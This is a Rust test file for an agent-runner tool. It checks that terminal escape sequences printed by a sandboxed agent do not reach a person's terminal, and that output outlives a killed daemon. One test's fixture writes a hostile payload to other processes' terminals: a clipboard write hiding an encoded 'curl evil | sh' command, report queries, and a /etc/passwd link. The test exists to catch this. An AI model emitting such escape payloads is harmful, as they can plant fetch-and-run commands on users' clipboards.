//! What outlives what, and what reaches a person's own terminal.

use std::io::Read as _;
use std::process::Stdio;
use std::time::Duration;

use clauderon_tests::{Terminal, World, lacks, on_each_backend, script_prompt};
use serde_json::json;

on_each_backend!(
    f3_escapes_that_an_agent_prints_reach_no_terminal,
    a_printed_answer_outlives_a_killed_daemon,
);

/// What must not reach a terminal: a clipboard write, a title report, a settings report, an odd link.
const HARMFUL: [&str; 4] = ["\x1b]52;", "\x1b[21t", "\x1bP$q", "\x1b]8;;file:"];

fn f3_escapes_that_an_agent_prints_reach_no_terminal(backend: &str) {
    let world = World::new();
    // A tool's own output is shown by the agent; a hijacked one writes to the agent's terminal itself.
    let print = r"sleep 2; for t in /proc/1/fd/1 /proc/$PPID/fd/1 /dev/tty; do { printf 'OPEN\033]52;c;Y3VybCBldmlsIHwgc2g=\007\033[21t\033P$q\042p\033\\\033]8;;file:///etc/passwd\033\\CLOSE' > $t; } 2>/dev/null && break; done; sleep 1";
    let prompt = script_prompt(&[
        json!({"tool": "Bash", "input": {"command": print, "description": "print"}}),
        json!({"text": "printed it"}),
    ]);
    world
        .detached(backend, "claude", "a", Some(&prompt))
        .expect(0);
    let mut live = Terminal::open(world.command(&["attach", "a"]), 100, 30);
    live.wait_for("OPENCLOSE");
    live.wait_for("printed it");
    assert_clean("attach", live.bytes());
    drop(live);
    // As history, too, and in the log.
    let mut history = Terminal::open(world.command(&["attach", "a"]), 100, 30);
    history.wait_for("OPENCLOSE");
    history.wait_for("bypass permissions on");
    assert_clean("attach again", history.bytes());
    drop(history);
    let mut logs = Terminal::open(world.command(&["logs", "a"]), 100, 30);
    assert_eq!(logs.wait_end(), 0);
    assert_clean("logs", logs.bytes());
    // Into a file the bytes are the agent's own: they were there to be removed.
    let file = world
        .command(&["logs", "a"])
        .output()
        .expect("clauderon starts");
    for harmful in HARMFUL {
        assert!(
            holds(&file.stdout, harmful),
            "{harmful:?} was never printed"
        );
    }
}

#[track_caller]
fn assert_clean(what: &str, bytes: &[u8]) {
    for harmful in HARMFUL {
        assert!(!holds(bytes, harmful), "{what} shows {harmful:?}");
    }
}

fn holds(bytes: &[u8], text: &str) -> bool {
    bytes
        .windows(text.len())
        .any(|window| window == text.as_bytes())
}

fn a_printed_answer_outlives_a_killed_daemon(backend: &str) {
    let world = World::new();
    let prompt = script_prompt(&[
        json!({"tool": "Bash", "input": {"command": "for n in $(seq 30); do echo $n >> /workspace/count; sleep 0.1; done", "description": "count"}}),
        json!({"big": 3000, "text": "BEGIN"}),
    ]);
    let mut args = vec![
        "create",
        "--name",
        "a",
        "--backend",
        backend,
        "--print",
        "--prompt",
        &prompt,
    ];
    if backend == "docker" {
        args.extend(["--image", clauderon_tests::programs::IMAGE]);
    }
    let mut elsewhere = world
        .command(&args)
        .stdout(Stdio::piped())
        .spawn()
        .expect("clauderon starts");
    let asked = world.upstream.wait_for(
        |request| String::from_utf8_lossy(&request.body).contains("seq 30"),
        Duration::from_secs(30),
    );
    world.wait(asked).expect("the agent asks the model");
    let count = world
        .session_folder(&world.id_of("a"))
        .join("workspace/count");
    while !count.exists() {
        std::thread::yield_now();
    }
    let before = world.daemon_pid();
    // SAFETY: a signal to the daemon that this test's world started.
    unsafe { libc::kill(before, libc::SIGKILL) };

    let mut printed = String::new();
    let mut stdout = elsewhere.stdout.take().expect("it is piped");
    stdout
        .read_to_string(&mut printed)
        .expect("the answer is text");
    let code = elsewhere.wait().expect("it is our child").code();
    assert_eq!(code, Some(0), "{printed}");
    assert_ne!(world.daemon_pid(), before, "another daemon took over");
    assert!(printed.starts_with("BEGIN"), "{printed}");
    assert!(
        printed.len() >= 3000,
        "the whole answer: {} bytes",
        printed.len()
    );
    let numbers = std::fs::read_to_string(count).expect("the tool ran");
    assert_eq!(numbers.lines().count(), 30, "once and to its end");
    let logs = world.run(&["logs", "--stdout", "a"]).expect(0).stdout;
    assert_eq!(logs, printed);
    assert_eq!(world.listed("a")["state"], "exited");
}

#[test]
fn a_second_daemon_steps_aside_and_says_so() {
    if lacks("bubblewrap").is_some() {
        return;
    }
    let world = World::new();
    let first = world.json(&["list"]);
    assert_eq!(first, json!([]));
    let pid = world.daemon_pid();
    let second = world.run(&["daemon"]).expect(4);
    assert!(second.stderr.contains("already runs"), "{second:?}");
    assert_eq!(world.daemon_pid(), pid, "the first one goes on");
    // Many commands at once on a fresh home start one daemon between them.
    let fresh = World::new();
    let mut all: Vec<_> = (0..8)
        .map(|_| {
            let mut list = fresh.command(&["list"]);
            list.stdout(Stdio::null())
                .spawn()
                .expect("clauderon starts")
        })
        .collect();
    for one in &mut all {
        assert!(one.wait().expect("it is our child").success());
    }
    let log = std::fs::read_to_string(fresh.home.join("logs/daemon.log")).expect("there is a log");
    assert_eq!(log.matches("serving").count(), 1, "{log}");
}
